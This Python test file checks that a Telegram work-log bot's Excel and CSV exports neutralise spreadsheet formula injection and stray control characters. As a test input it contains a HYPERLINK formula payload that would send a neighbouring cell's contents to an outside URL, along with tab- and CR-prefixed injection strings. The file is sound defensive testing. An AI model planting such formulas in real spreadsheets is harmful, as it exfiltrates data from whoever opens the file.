"""Attack: text typed into the chat that turns into a formula or breaks the workbook when exported.

An official logs `=HYPERLINK("http://x?d="&B2,"a")` (a formula that would send the next cell to a
stranger's server when the department opens the file) and a text pasted from Word with its
Shift+Enter (U+000B, which XML cannot hold). The supervisor exports through the real Telegram
stack (`/xuat`, the export worker, the outbox; the fake Bot API receives the document) and the
operator through the command line; both files are opened with openpyxl (and the CSV with the
csv module) and checked.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from bot.channels.telegram_outbox import TelegramOutbox, outbox_bot
from bot.export.sink import CsvSink, SheetSpec, XlsxSink
from bot.outbox_sender import OutboxSender, SenderSettings
from handlers.router import Router
from storage import Database, worklog
from storage.org_import import resolve_person
from testing.fakes.telegram_api import FakeTelegramAPI
from tests.helpers.cli import OPERATOR_SETTINGS, bietphai
from tests.helpers.exports import build_waiting_exports
from tests.helpers.sample import AN, THANH
from tests.helpers.telegram import TOKEN, PollingBot, linked_official

FORMULA = '=HYPERLINK("http://x?d="&B2,"a")'
WORD_PASTE = "Họp dân thôn 3\x0bChiều: rà soát hồ sơ"
OTHER_STARTS = ["+84 số máy trưởng thôn", "-5 hộ chưa nộp", "@trưởng thôn"]
DAY = "2026-11-25 09:00"  # a Wednesday in Đợt 2


@pytest.fixture
async def bot(router: Router) -> AsyncIterator[PollingBot]:
    """The running bot on the fake Bot API, on the sample organisation."""
    async with FakeTelegramAPI() as fake:
        running = PollingBot(fake, router)
        await running.start()
        yield running
        await running.stop()


async def log_through_telegram(bot: PollingBot, org_db: Database) -> None:
    """An logs the poisoned texts as entries, each saved with «Lưu»."""
    an = await linked_official(bot, org_db, AN, 7001, "An")
    for text in [FORMULA, WORD_PASTE, *OTHER_STARTS]:
        [offer] = await an.says(text, at=DAY)
        assert offer.text.startswith("Lưu nội dung này"), offer.text
        [saved] = await an.presses("Lưu", offer)
        assert saved.text.startswith("Đã ghi nhật ký"), saved.text


async def old_row_with_a_control_character(org_db: Database) -> None:
    """An entry stored before the cleaning existed, still holding U+000B and U+0001."""
    now = datetime(2026, 11, 24, 2, 0, tzinfo=UTC)
    async with org_db.transaction() as tx:
        await worklog.add_work_log(
            tx,
            person_id=await resolve_person(tx, AN),
            commune_code="XA01",
            work_date=date(2026, 11, 24),
            topic="khac",
            text="Bản cũ\x0bdòng hai\x01",
            channel="telegram",
            sent_at=now,
            now=now,
        )


def text_cells(book: Workbook) -> list[tuple[str, str, object, str]]:
    """(sheet, coordinate, value, data type) of every cell holding text, in every sheet."""
    found: list[tuple[str, str, object, str]] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.append((sheet.title, cell.coordinate, cell.value, cell.data_type))
    return found


def assert_harmless(book: Workbook) -> None:
    """No formula anywhere; the poisoned texts are string cells, the paste keeps its line."""
    formulas = [c for c in text_cells(book) if c[3] == "f"]
    assert formulas == []
    values = {c[2]: c[3] for c in text_cells(book)}
    assert values[FORMULA] == "s"
    for text in OTHER_STARTS:
        assert values[text] == "s"
    assert "Họp dân thôn 3\nChiều: rà soát hồ sơ" in values
    assert "Bản cũ\ndòng hai" in values
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    quoted = [c for c in cells if c.value == FORMULA]
    assert quoted and all(c.quotePrefix for c in quoted)


async def test_a_formula_and_a_word_line_break_export_as_plain_text_from_the_chat(
    bot: PollingBot, org_db: Database, tmp_path: Path
) -> None:
    await log_through_telegram(bot, org_db)
    await old_row_with_a_control_character(org_db)
    thanh = await linked_official(bot, org_db, THANH, 7002, "Thành")
    [menu] = await thanh.says("/xuat", at="2026-11-27 16:00")
    [building] = await thanh.presses("Tuần này", menu)
    assert building.text.startswith("Đang lập tệp Excel")
    # The export worker builds the workbook; the outbox sends it to Telegram.
    await build_waiting_exports(org_db, tmp_path / "files")
    delivery = TelegramOutbox(outbox_bot(TOKEN, bot.fake.base_url))
    await delivery.start()
    try:
        sender = OutboxSender(org_db, delivery, SenderSettings(chat_interval=0))
        while await sender.drain_once():
            pass
    finally:
        await delivery.stop()
    [upload] = [c for c in bot.fake.calls_of("sendDocument") if c.ok]
    content = upload.params["document"]["content"]
    assert_harmless(load_workbook(io.BytesIO(content)))


async def test_the_command_line_export_is_harmless_in_xlsx_and_csv(
    bot: PollingBot, org_db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await log_through_telegram(bot, org_db)
    await old_row_with_a_control_character(org_db)
    for name in list(os.environ):
        if name.startswith(OPERATOR_SETTINGS):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BOT_DB_PATH", str(tmp_path / "bietphai.sqlite3"))
    period = ["--from", "23/11/2026", "--to", "29/11/2026"]
    assert await bietphai("export", *period, "-o", "tuan.xlsx") == 0
    assert_harmless(load_workbook(tmp_path / "tuan.xlsx"))

    assert await bietphai("export", *period, "-o", "csv", "--format", "csv") == 0
    with (tmp_path / "csv" / "Nhật ký.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    # OWASP: a cell starting with = + - @ tab or CR gets a leading quote, nothing else changes.
    assert "'" + FORMULA in cells and FORMULA not in cells
    for text in OTHER_STARTS:
        assert "'" + text in cells
    assert "Họp dân thôn 3\nChiều: rà soát hồ sơ" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_a_real_negative_number_stays_a_number(tmp_path: Path) -> None:
    spec = SheetSpec("Số liệu", ("Nội dung", "Chênh lệch"))
    xlsx = XlsxSink(tmp_path / "so-lieu.xlsx")
    xlsx.sheet(spec).append(["-5 hộ", -5])
    xlsx.sheet(SheetSpec("Khác", ("Nội dung",))).append(["\t=1+1"])
    xlsx.commit()
    book = load_workbook(tmp_path / "so-lieu.xlsx")
    cell_text, cell_number = book["Số liệu"][2]
    assert (cell_text.value, cell_text.data_type) == ("-5 hộ", "s")
    assert (cell_number.value, cell_number.data_type) == (-5, "n")
    assert book["Khác"]["A2"].data_type == "s"
    folder = CsvSink(tmp_path / "so-lieu")
    folder.sheet(spec).append(["-5 hộ", -5])
    folder.sheet(SheetSpec("Khác", ("Nội dung",))).append(["\t=1+1", "\r=1+1"])
    folder.commit()
    lines = (tmp_path / "so-lieu" / "Số liệu.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[1] == "'-5 hộ,-5"
    with (tmp_path / "so-lieu" / "Khác.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle))[1] == ["'\t=1+1", "'\r=1+1"]
